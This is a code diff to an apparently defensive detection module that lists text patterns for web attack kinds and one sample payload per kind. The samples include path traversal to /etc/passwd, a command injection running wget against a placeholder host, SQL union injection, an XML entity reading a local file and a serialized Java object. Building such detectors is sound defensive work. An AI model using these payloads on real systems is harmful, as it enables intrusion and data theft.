@@ -1,7 +1,11 @@
 import type { Kind } from './facts.ts'
 
+/** Kinds that are told by a text of their own. */
+export type Marked = Exclude<Kind, 'endpoint' | 'request'>
+export const isMarked = (kind: Kind): kind is Marked => kind !== 'endpoint' && kind !== 'request'
+
 /** Texts that give each kind away, plain and percent-encoded, in lower case; `*` stands for anything. */
-export const marks: Readonly<Record<Exclude<Kind, 'endpoint'>, readonly string[]>> = {
+export const marks: Readonly<Record<Marked, readonly string[]>> = {
   traversal: [
     '../',
     '..%2f',
@@ -45,6 +49,11 @@ export const marks: Readonly<Record<Exclude<Kind, 'endpoint'>, readonly string[]
     '%27*or*=',
     "'*and*=",
     '%27*and*=',
+    'and*sleep',
+    'or*1=1',
+    "'*||",
+    'convert(int',
+    'concat(',
     "'*--",
     '%27*--',
     '%27*%23',
@@ -74,6 +83,10 @@ export const marks: Readonly<Record<Exclude<Kind, 'endpoint'>, readonly string[]
     'java.lang',
     'java.util',
     'execute(',
+    'popen(',
+    'function(',
+    'require(',
+    'pyimport',
     'phpinfo',
     'shell_exec',
     'loadlibrary',
@@ -85,18 +98,22 @@ export const marks: Readonly<Record<Exclude<Kind, 'endpoint'>, readonly string[]
   object: [
     'ro0ab',
     'aced0005',
+    'aaeaaad',
     '\u00ac\u00ed',
     'o:*:"',
     'o:*:{',
     '%4f%3a',
-    '__viewstate',
     '$type',
     'objectdataprovider',
   ],
+  /** Names of files that a server would run. */
+  upload: ['.php', '.jsp', '.asp', '.phtml', '.war', '.cfm', '.pht', '.sh', '.ashx'],
+  /** What ends a quoted text too early. */
+  quote: ["'", '%27'],
 }
 
 /** One exploiting part of each kind, for the drawn session that must fire. */
-export const samples: Readonly<Record<Exclude<Kind, 'endpoint'>, string>> = {
+export const samples: Readonly<Record<Marked, string>> = {
   traversal: '../../../../etc/passwd',
   command: ';wget+http%3a%2f%2f198.51.100.7%2fx',
   sql: '1%27+union+select+1,2--',
@@ -105,6 +122,8 @@ export const samples: Readonly<Record<Exclude<Kind, 'endpoint'>, string>> = {
   address: 'http://198.51.100.7/x',
   entity: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>',
   object: 'rO0ABXNyABE',
+  upload: 'x.php',
+  quote: '1%27',
 }
 
 /** What each kind is called in a name, and what it does, in a sentence. */
@@ -117,5 +136,8 @@ export const words: Readonly<Record<Kind, readonly [string, string]>> = {
   address: ['Request Forgery', 'named an address of its own for the server to fetch from'],
   entity: ['XML Entity', 'sent a document that makes the server read what it should not'],
   object: ['Deserialization', 'sent a serialized object for the server to bring to life'],
+  upload: ['File Upload', 'sent a file that the server would run'],
+  quote: ['Injection', 'ended a text early where a plain value belongs'],
+  request: ['Exploit', 'sent the very request through which the flaw is used'],
   endpoint: ['Exploit', 'asked for the one address through which the flaw is used'],
 }
